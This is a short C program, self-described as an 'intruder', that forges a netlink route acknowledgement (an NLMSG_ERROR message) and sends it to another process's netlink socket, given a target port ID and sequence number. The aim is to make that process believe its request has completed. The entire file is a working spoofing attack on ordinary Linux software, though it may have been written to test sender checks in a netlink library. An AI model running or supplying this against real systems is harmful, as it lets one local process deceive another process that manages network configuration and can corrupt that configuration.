/* Writes to somebody else's route socket: intruder PORT SEQUENCE. It claims that the request of that number is done. */
#include <linux/netlink.h>
#include <stdlib.h>
#include <sys/socket.h>

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    struct {
        struct nlmsghdr header;
        struct nlmsgerr answer;
    } forged = { .header = { .nlmsg_len = sizeof(forged), .nlmsg_type = NLMSG_ERROR, .nlmsg_seq = (unsigned)atoi(argv[2]) } };
    struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = (unsigned)atoi(argv[1]) };
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    return fd < 0 || sendto(fd, &forged, sizeof(forged), 0, (struct sockaddr *)&to, sizeof(to)) != sizeof(forged);
}
